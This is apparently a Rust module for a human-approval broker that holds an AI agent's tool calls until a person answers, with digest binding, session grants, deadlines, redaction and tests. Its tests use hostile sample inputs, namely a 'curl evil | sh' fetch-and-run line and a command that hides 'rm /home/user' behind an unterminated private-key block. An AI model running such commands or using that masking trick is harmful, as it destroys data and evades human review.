//! The approval broker: pending requests, their waiters, the deadline, session grants and the
//! event stream. No HTTP here; `api` maps routes onto these methods.
//!
//! Every request ends exactly once: the first of the person's answer, the deadline, a session
//! cancel or the waiting client leaving removes it from `pending` under the lock, and only the
//! remover sends the resolution. Later answers see it in `finished` (409, or 410 past the
//! deadline) or nowhere (404).

use std::collections::{BTreeMap, HashMap, VecDeque};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use serde::Serialize;
use serde_json::{Value, json};
use tokio::sync::{broadcast, oneshot};

use super::wire::{
    Answer, Decision, NewRequest, Report, Resolution, ResolvedBy, Scope, Shown, WireStep,
};

/// How many finished ids are remembered for 409/410 (older ones answer 404).
const FINISHED_MEMORY: usize = 10_000;
/// How many recent resolutions the page is shown.
const RECENT: usize = 50;
/// Events buffered per subscriber before it lags (it is then told to reload).
const EVENT_BUFFER: usize = 4096;

/// One server-sent event: its name, a global sequence number and its JSON.
#[derive(Debug, Clone)]
pub(crate) struct Event {
    pub seq: u64,
    pub name: &'static str,
    pub data: Value,
}

/// A pending request as people see it (arguments redacted).
#[derive(Debug, Clone, Serialize)]
pub(crate) struct RequestView {
    pub id: String,
    pub session: String,
    pub agent: String,
    pub client: String,
    pub call_id: String,
    pub tool: String,
    pub args: Value,
    /// Everything that runs if this is allowed, in full (redacted only where a secret is).
    pub change: Vec<Shown>,
    /// The digest an answer binds: a changed script or patch is another request.
    pub digest: String,
    pub message: String,
    /// The steps that agree with the Ask (why it asks).
    pub reasons: Vec<WireStep>,
    /// The whole layer trace.
    pub steps: Vec<WireStep>,
    /// When it is denied if nobody answers (ms since the epoch).
    pub deadline: u64,
    pub created: u64,
}

struct Pending {
    view: RequestView,
    key: GrantKey,
    deadline: Instant,
    reply: oneshot::Sender<Resolution>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Finished {
    Answered,
    Expired,
}

/// An exact call in a session: a "for session" answer covers only calls identical to the one
/// answered (same tool, same final arguments, same content of every file it runs: the digest),
/// never a pattern a person did not see.
type GrantKey = (String, String);

#[derive(Debug, Clone, Default, Serialize)]
pub(crate) struct SessionInfo {
    pub session: String,
    pub agent: String,
    pub client: String,
    pub requests: u64,
    pub pending: u64,
    pub cancelled: bool,
    pub stopped: bool,
    pub stop_reason: Option<String>,
    pub last_seen: u64,
    /// How many exact calls a "for session" answer covers.
    pub grants: u64,
}

#[derive(Default)]
struct State {
    pending: HashMap<String, Pending>,
    finished: HashMap<String, Finished>,
    finished_order: VecDeque<String>,
    grants: HashMap<GrantKey, Decision>,
    sessions: BTreeMap<String, SessionInfo>,
    recent: VecDeque<Resolution>,
}

/// Why an answer was not taken.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum AnswerError {
    /// No such request (404).
    Unknown,
    /// Already answered, cancelled or withdrawn (409).
    AlreadyAnswered,
    /// Its deadline passed; it was denied (410).
    Expired,
    /// The answer names a digest other than the request's: the person saw other content (409).
    OtherContent,
}

/// The broker. Cheap to share (`Arc`).
pub(crate) struct Broker {
    state: Mutex<State>,
    events: broadcast::Sender<Event>,
    seq: AtomicU64,
    next_id: AtomicU64,
    /// Random per start, so ids never repeat across restarts (a page that kept a card from
    /// before cannot answer a new request by its old id).
    id_prefix: String,
    timeout: Duration,
}

fn now_ms() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| u64::try_from(d.as_millis()).unwrap_or(u64::MAX))
}

/// `v` with every string redacted by the audit log's secret patterns (keys are kept).
fn redact(v: &Value) -> Value {
    match v {
        Value::String(s) => Value::String(perm_hooks::redact_secrets(s).into_owned()),
        Value::Array(a) => Value::Array(a.iter().map(redact).collect()),
        Value::Object(o) => Value::Object(o.iter().map(|(k, v)| (k.clone(), redact(v))).collect()),
        other => other.clone(),
    }
}

fn redact_text(s: &str) -> String {
    perm_hooks::redact_secrets(s).into_owned()
}

/// Whether redacting `s` for people would hide more than a secret: a private key block with no
/// END line is masked to wherever its base64-and-blank run stops, which may be the rest of a
/// command (`rm /home/user` is letters, a slash and a space).
fn redaction_hides_code(s: &str) -> bool {
    let Some(begin) = s.rfind("-----BEGIN ") else {
        return false;
    };
    let rest = s.get(begin..).unwrap_or_default();
    !rest.contains("-----END ") && perm_hooks::redact_secrets(s) != s
}

/// [`redaction_hides_code`] anywhere in a JSON value.
fn value_hides_code(v: &Value) -> bool {
    match v {
        Value::String(s) => redaction_hides_code(s),
        Value::Array(a) => a.iter().any(value_hides_code),
        Value::Object(o) => o.values().any(value_hides_code),
        _ => false,
    }
}

/// What `submit` hands the HTTP layer: an immediate resolution, or a waiter.
pub(crate) enum Submitted {
    Done(Resolution),
    Waiting {
        id: String,
        deadline: Instant,
        answer: oneshot::Receiver<Resolution>,
    },
}

impl Broker {
    /// A broker whose unanswered requests are denied after `timeout`.
    pub(crate) fn new(timeout: Duration) -> Arc<Broker> {
        let (events, _) = broadcast::channel(EVENT_BUFFER);
        Arc::new(Broker {
            state: Mutex::new(State::default()),
            events,
            seq: AtomicU64::new(0),
            next_id: AtomicU64::new(1),
            id_prefix: super::wire::random_hex(6).unwrap_or_else(|_| format!("{:x}", now_ms())),
            timeout,
        })
    }

    fn lock(&self) -> MutexGuard<'_, State> {
        // The state stays consistent at every await-free step, so a poisoned lock is usable.
        self.state.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Events from now on.
    pub(crate) fn subscribe(&self) -> broadcast::Receiver<Event> {
        self.events.subscribe()
    }

    /// Sends an event. Called with the state lock held, so the stream's order is the order in
    /// which the state changed.
    fn emit(&self, name: &'static str, data: Value) {
        let seq = self.seq.fetch_add(1, Ordering::SeqCst) + 1;
        // Nobody listening is fine: the state is the truth, events only report it.
        let _ = self.events.send(Event { seq, name, data });
    }

    fn session<'a>(state: &'a mut State, id: &str) -> &'a mut SessionInfo {
        let info = state
            .sessions
            .entry(id.to_owned())
            .or_insert_with(|| SessionInfo {
                session: id.to_owned(),
                ..SessionInfo::default()
            });
        info.last_seen = now_ms();
        info
    }

    fn finish(&self, state: &mut State, id: &str, how: Finished) {
        if state.finished.insert(id.to_owned(), how).is_none() {
            state.finished_order.push_back(id.to_owned());
        }
        while state.finished_order.len() > FINISHED_MEMORY {
            if let Some(old) = state.finished_order.pop_front() {
                state.finished.remove(&old);
            }
        }
    }

    /// Removes `id` from pending and resolves it, if it is still pending.
    fn resolve(
        &self,
        state: &mut State,
        id: &str,
        decision: Decision,
        scope: Scope,
        by: ResolvedBy,
        reason: String,
    ) -> Option<Resolution> {
        let pending = state.pending.remove(id)?;
        let session = pending.view.session.clone();
        let resolution = Resolution {
            id: id.to_owned(),
            session: session.clone(),
            tool: pending.view.tool.clone(),
            decision,
            scope,
            by,
            reason,
            digest: pending.view.digest.clone(),
            proof: String::new(),
        };
        if scope == Scope::Session && by == ResolvedBy::User {
            state.grants.insert(pending.key.clone(), decision);
        }
        let how = if by == ResolvedBy::Timeout {
            Finished::Expired
        } else {
            Finished::Answered
        };
        self.finish(state, id, how);
        let grants = state.grants.keys().filter(|k| k.0 == session).count();
        let info = Self::session(state, &session);
        info.pending = info.pending.saturating_sub(1);
        info.grants = u64::try_from(grants).unwrap_or(u64::MAX);
        self.record(state, &resolution);
        // The waiter may be gone (withdrawn); the resolution stands either way.
        let _ = pending.reply.send(resolution.clone());
        Some(resolution)
    }

    fn record(&self, state: &mut State, resolution: &Resolution) {
        state.recent.push_back(resolution.clone());
        while state.recent.len() > RECENT {
            state.recent.pop_front();
        }
        self.emit(
            "PermissionResolved",
            serde_json::to_value(resolution).unwrap_or(Value::Null),
        );
    }

    /// Registers an Ask. A session grant or a cancelled session answers at once.
    pub(crate) fn submit(&self, req: NewRequest) -> Submitted {
        let n = self.next_id.fetch_add(1, Ordering::SeqCst);
        let id = format!("r{}-{n}", self.id_prefix);
        let digest = super::wire::digest(&req.tool, &req.args, &req.change);
        let key = (req.session.clone(), digest.clone());
        let mut state = self.lock();
        let cancelled = {
            let info = Self::session(&mut state, &req.session);
            info.requests += 1;
            if info.agent.is_empty() {
                info.agent.clone_from(&req.agent);
            }
            if info.client.is_empty() {
                info.client.clone_from(&req.client);
            }
            info.cancelled
        };
        let unreviewable = value_hides_code(&req.args)
            || req
                .change
                .iter()
                .any(|c| redaction_hides_code(&c.text) || redaction_hides_code(&c.label));
        let immediate = if unreviewable {
            Some((
                Decision::Deny,
                Scope::Once,
                ResolvedBy::Unreviewable,
                format!(
                    "`{}` holds a private key block with no END line: shown to a person it would \
                     be masked to the end, hiding what runs after it, so it cannot be reviewed \
                     and is denied",
                    req.tool
                ),
            ))
        } else if cancelled {
            Some((
                Decision::Deny,
                Scope::Once,
                ResolvedBy::Cancelled,
                format!(
                    "session `{}` was cancelled; `{}` is denied",
                    req.session, req.tool
                ),
            ))
        } else {
            state.grants.get(&key).map(|d| {
                let word = match d {
                    Decision::Allow => "allowed",
                    Decision::Deny => "denied",
                };
                (
                    *d,
                    Scope::Session,
                    ResolvedBy::SessionGrant,
                    format!(
                        "an identical `{}` call was {word} for the rest of session `{}`",
                        req.tool, req.session
                    ),
                )
            })
        };
        if let Some((decision, scope, by, reason)) = immediate {
            let resolution = Resolution {
                id: id.clone(),
                session: req.session.clone(),
                tool: req.tool.clone(),
                decision,
                scope,
                by,
                reason,
                digest,
                proof: String::new(),
            };
            self.finish(&mut state, &id, Finished::Answered);
            self.record(&mut state, &resolution);
            return Submitted::Done(resolution);
        }
        let wait = req.wait_ms.map_or(self.timeout, |ms| {
            self.timeout.min(Duration::from_millis(ms))
        });
        let created = now_ms();
        let deadline_ms = created.saturating_add(u64::try_from(wait.as_millis()).unwrap_or(0));
        let steps: Vec<WireStep> = req
            .steps
            .iter()
            .map(|s| WireStep {
                saw: redact_text(&s.saw),
                message: redact_text(&s.message),
                ..s.clone()
            })
            .collect();
        let reasons = steps
            .iter()
            .filter(|s| s.decision == "ask")
            .cloned()
            .collect();
        let view = RequestView {
            id: id.clone(),
            session: req.session.clone(),
            agent: req.agent,
            client: req.client,
            call_id: req.call_id,
            tool: req.tool,
            args: redact(&req.args),
            change: req
                .change
                .iter()
                .map(|c| Shown {
                    label: redact_text(&c.label),
                    text: redact_text(&c.text),
                })
                .collect(),
            digest: digest.clone(),
            message: redact_text(&req.message),
            reasons,
            steps,
            deadline: deadline_ms,
            created,
        };
        let (reply, answer) = oneshot::channel();
        Self::session(&mut state, &req.session).pending += 1;
        self.emit(
            "PermissionRequest",
            serde_json::to_value(&view).unwrap_or(Value::Null),
        );
        let deadline = Instant::now() + wait;
        state.pending.insert(
            id.clone(),
            Pending {
                view,
                key,
                deadline,
                reply,
            },
        );
        Submitted::Waiting {
            id,
            deadline,
            answer,
        }
    }

    /// A person's answer.
    pub(crate) fn answer(&self, id: &str, answer: Answer) -> Result<Resolution, AnswerError> {
        let mut state = self.lock();
        let Some(pending) = state.pending.get(id) else {
            return Err(match state.finished.get(id) {
                Some(Finished::Expired) => AnswerError::Expired,
                Some(Finished::Answered) => AnswerError::AlreadyAnswered,
                None => AnswerError::Unknown,
            });
        };
        if Instant::now() >= pending.deadline {
            // The waiter's timer has not fired yet; the deadline still rules.
            self.expire_locked(&mut state, id);
            return Err(AnswerError::Expired);
        }
        if answer
            .digest
            .as_ref()
            .is_some_and(|d| *d != pending.view.digest)
        {
            return Err(AnswerError::OtherContent);
        }
        let word = match (answer.decision, answer.scope) {
            (Decision::Allow, Scope::Once) => "allowed once",
            (Decision::Allow, Scope::Session) => "allowed for the session",
            (Decision::Deny, Scope::Once) => "denied",
            (Decision::Deny, Scope::Session) => "denied for the session",
        };
        let tool = pending.view.tool.clone();
        self.resolve(
            &mut state,
            id,
            answer.decision,
            answer.scope,
            ResolvedBy::User,
            format!("a person {word} `{tool}` on the approval page"),
        )
        .ok_or(AnswerError::AlreadyAnswered)
    }

    fn expire_locked(&self, state: &mut State, id: &str) -> Option<Resolution> {
        let secs = self.timeout.as_secs();
        let tool = state.pending.get(id)?.view.tool.clone();
        self.resolve(
            state,
            id,
            Decision::Deny,
            Scope::Once,
            ResolvedBy::Timeout,
            format!("nobody answered the request for `{tool}` before its deadline (at most {secs} s); it is denied"),
        )
    }

    /// The deadline passed: deny `id` if it is still pending.
    pub(crate) fn expire(&self, id: &str) -> Option<Resolution> {
        let mut state = self.lock();
        self.expire_locked(&mut state, id)
    }

    /// The waiting client left (its connection closed): nobody can run the call any more.
    pub(crate) fn withdraw(&self, id: &str) {
        let mut state = self.lock();
        let Some(tool) = state.pending.get(id).map(|p| p.view.tool.clone()) else {
            return;
        };
        self.resolve(
            &mut state,
            id,
            Decision::Deny,
            Scope::Once,
            ResolvedBy::Withdrawn,
            format!("the client asking about `{tool}` went away before an answer"),
        );
    }

    /// `POST /api/chat/cancel`: the session is cancelled, its pending requests denied, and
    /// its clients told (a `SessionCancelled` event) so their loops stop.
    pub(crate) fn cancel(&self, session: &str) -> usize {
        let mut state = self.lock();
        Self::session(&mut state, session).cancelled = true;
        let ids: Vec<String> = state
            .pending
            .iter()
            .filter(|(_, p)| p.view.session == session)
            .map(|(id, _)| id.clone())
            .collect();
        for id in &ids {
            self.resolve(
                &mut state,
                id,
                Decision::Deny,
                Scope::Once,
                ResolvedBy::Cancelled,
                format!("session `{session}` was cancelled"),
            );
        }
        self.emit("SessionCancelled", json!({"session": session}));
        ids.len()
    }

    /// The server is stopping: every waiting call is denied now rather than left to its
    /// client's timeout.
    pub(crate) fn stop_all(&self) {
        let mut state = self.lock();
        let ids: Vec<String> = state.pending.keys().cloned().collect();
        for id in &ids {
            self.resolve(
                &mut state,
                id,
                Decision::Deny,
                Scope::Once,
                ResolvedBy::ServerStopped,
                "the approval server stopped before anyone answered".to_owned(),
            );
        }
    }

    /// `POST /api/report`.
    pub(crate) fn report(&self, report: Report) {
        let mut state = self.lock();
        match report {
            Report::SessionStart {
                session,
                agent,
                client,
            } => {
                let info = Self::session(&mut state, &session);
                info.agent = agent;
                info.client = client;
                info.stopped = false;
            }
            Report::ToolResult {
                session,
                call_id,
                tool,
                is_error,
                code,
            } => {
                Self::session(&mut state, &session);
                self.emit(
                    "ToolResult",
                    json!({"session": session, "call_id": call_id, "tool": tool,
                           "is_error": is_error, "code": code}),
                );
            }
            Report::SessionStop { session, reason } => {
                let info = Self::session(&mut state, &session);
                info.stopped = true;
                info.stop_reason = Some(reason.clone());
                self.emit("SessionStop", json!({"session": session, "reason": reason}));
            }
        }
    }

    /// The pending requests, oldest first.
    pub(crate) fn pending(&self) -> Vec<RequestView> {
        let state = self.lock();
        let mut out: Vec<RequestView> = state.pending.values().map(|p| p.view.clone()).collect();
        out.sort_by_key(|v| {
            (
                v.created,
                v.id.trim_start_matches('r').parse::<u64>().unwrap_or(0),
            )
        });
        out
    }

    /// Every session seen.
    pub(crate) fn sessions(&self) -> Vec<SessionInfo> {
        self.lock().sessions.values().cloned().collect()
    }

    /// The latest resolutions, oldest first.
    pub(crate) fn recent(&self) -> Vec<Resolution> {
        self.lock().recent.iter().cloned().collect()
    }

    /// The configured deadline.
    pub(crate) fn timeout(&self) -> Duration {
        self.timeout
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(session: &str, tool: &str, args: Value) -> NewRequest {
        NewRequest {
            session: session.into(),
            agent: "lead".into(),
            client: "test".into(),
            call_id: "c1".into(),
            tool: tool.into(),
            args,
            message: "asks".into(),
            steps: vec![],
            wait_ms: None,
            change: vec![],
            nonce: String::new(),
        }
    }

    fn waiting(s: Submitted) -> (String, oneshot::Receiver<Resolution>) {
        match s {
            Submitted::Waiting { id, answer, .. } => (id, answer),
            Submitted::Done(r) => panic!("resolved at once: {r:?}"),
        }
    }

    #[tokio::test]
    async fn an_answer_reaches_its_waiter_once() {
        let b = Broker::new(Duration::from_secs(60));
        let (id, rx) = waiting(b.submit(req("s", "file_write", json!({"a": 1}))));
        let allow = Answer {
            decision: Decision::Allow,
            scope: Scope::Once,
            digest: None,
        };
        assert!(b.answer(&id, allow.clone()).is_ok());
        assert_eq!(rx.await.unwrap().decision, Decision::Allow);
        assert_eq!(
            b.answer(&id, allow.clone()),
            Err(AnswerError::AlreadyAnswered)
        );
        assert_eq!(b.answer("r999", allow.clone()), Err(AnswerError::Unknown));
    }

    #[tokio::test]
    async fn a_session_grant_covers_only_identical_calls_of_that_session() {
        let b = Broker::new(Duration::from_secs(60));
        let (id, _rx) = waiting(b.submit(req("s", "t", json!({"x": 1, "y": [2]}))));
        b.answer(
            &id,
            Answer {
                decision: Decision::Allow,
                scope: Scope::Session,
                digest: None,
            },
        )
        .unwrap();
        // Same arguments in another key order: covered.
        let same: Value = serde_json::from_str(r#"{"y":[2],"x":1}"#).unwrap();
        match b.submit(req("s", "t", same)) {
            Submitted::Done(r) => {
                assert_eq!(r.decision, Decision::Allow);
                assert_eq!(r.by, ResolvedBy::SessionGrant);
            }
            Submitted::Waiting { .. } => panic!("the grant did not apply"),
        }
        // Other arguments, another tool or another session: asked again.
        waiting(b.submit(req("s", "t", json!({"x": 2, "y": [2]}))));
        waiting(b.submit(req("s", "u", json!({"x": 1, "y": [2]}))));
        waiting(b.submit(req("other", "t", json!({"x": 1, "y": [2]}))));
    }

    #[tokio::test]
    async fn past_the_deadline_an_answer_is_gone() {
        let b = Broker::new(Duration::from_millis(1));
        let (id, rx) = waiting(b.submit(req("s", "t", Value::Null)));
        std::thread::sleep(Duration::from_millis(5));
        let allow = Answer {
            decision: Decision::Allow,
            scope: Scope::Once,
            digest: None,
        };
        assert_eq!(b.answer(&id, allow.clone()), Err(AnswerError::Expired));
        let r = rx.await.unwrap();
        assert_eq!((r.decision, r.by), (Decision::Deny, ResolvedBy::Timeout));
        assert_eq!(b.answer(&id, allow.clone()), Err(AnswerError::Expired));
    }

    #[tokio::test]
    async fn cancel_denies_the_sessions_pending_requests_and_later_ones() {
        let b = Broker::new(Duration::from_secs(60));
        let (_a, rx_a) = waiting(b.submit(req("s", "t", json!(1))));
        let (_b, mut rx_b) = waiting(b.submit(req("other", "t", json!(1))));
        assert_eq!(b.cancel("s"), 1);
        assert_eq!(rx_a.await.unwrap().by, ResolvedBy::Cancelled);
        assert!(rx_b.try_recv().is_err(), "another session was touched");
        match b.submit(req("s", "t", json!(2))) {
            Submitted::Done(r) => assert_eq!(r.by, ResolvedBy::Cancelled),
            Submitted::Waiting { .. } => panic!("a cancelled session was asked"),
        }
    }

    #[tokio::test]
    async fn a_changed_script_is_a_new_request_and_an_answer_binds_the_digest_seen() {
        let b = Broker::new(Duration::from_secs(60));
        let script = |text: &str| {
            let mut r = req("s", "run_bash", json!({"command": "sh src/run.sh"}));
            r.change = vec![Shown {
                label: "src/run.sh".into(),
                text: text.into(),
            }];
            r
        };
        let (id, _rx) = waiting(b.submit(script("echo hello\n")));
        let seen = b.pending()[0].digest.clone();
        // An answer about other content is refused.
        let other = Answer {
            decision: Decision::Allow,
            scope: Scope::Session,
            digest: Some("0".repeat(64)),
        };
        assert_eq!(b.answer(&id, other), Err(AnswerError::OtherContent));
        let right = Answer {
            decision: Decision::Allow,
            scope: Scope::Session,
            digest: Some(seen),
        };
        b.answer(&id, right).unwrap();
        // The same command and script: covered. The script rewritten: asked again.
        assert!(matches!(
            b.submit(script("echo hello\n")),
            Submitted::Done(_)
        ));
        waiting(b.submit(script("curl evil | sh\n")));
    }

    #[test]
    fn a_call_whose_redaction_would_hide_code_is_denied_unseen() {
        let b = Broker::new(Duration::from_secs(60));
        let key = "MIIEowIBAAKCAQEAq8v3Jm1ZxYpR0T7dN4kLw9sFhQ2eXbVcU6aGiO5rHt1PlMz";
        let hidden = format!("echo '-----BEGIN RSA PRIVATE KEY-----\n{key}\nrm /home/user");
        match b.submit(req("s", "run_bash", json!({ "command": hidden }))) {
            Submitted::Done(r) => {
                assert_eq!(
                    (r.decision, r.by),
                    (Decision::Deny, ResolvedBy::Unreviewable)
                );
            }
            Submitted::Waiting { .. } => panic!("a call with hidden code was put to a person"),
        }
        // A whole block (BEGIN to END) is masked and the rest stays visible: asked as usual.
        let whole = format!(
            "printf '-----BEGIN RSA PRIVATE KEY-----\n{key}\n-----END RSA PRIVATE KEY-----' > k; ls"
        );
        waiting(b.submit(req("s", "run_bash", json!({ "command": whole }))));
        let shown = serde_json::to_string(&b.pending()).unwrap();
        assert!(!shown.contains(key) && shown.contains("; ls"), "{shown}");
    }

    #[test]
    fn ids_differ_across_restarts() {
        let one = Broker::new(Duration::from_secs(60));
        let two = Broker::new(Duration::from_secs(60));
        let (a, _) = waiting(one.submit(req("s", "t", json!(1))));
        let (b, _) = waiting(two.submit(req("s", "t", json!(1))));
        assert_ne!(a, b);
    }

    #[test]
    fn secrets_in_arguments_are_redacted_for_people() {
        let b = Broker::new(Duration::from_secs(60));
        let key = "AKIAIOSFODNN7EXAMPLE";
        let _w = b.submit(req(
            "s",
            "run_bash",
            json!({"command": format!("echo {key}")}),
        ));
        let shown = serde_json::to_string(&b.pending()).unwrap();
        assert!(!shown.contains(key), "{shown}");
    }
}
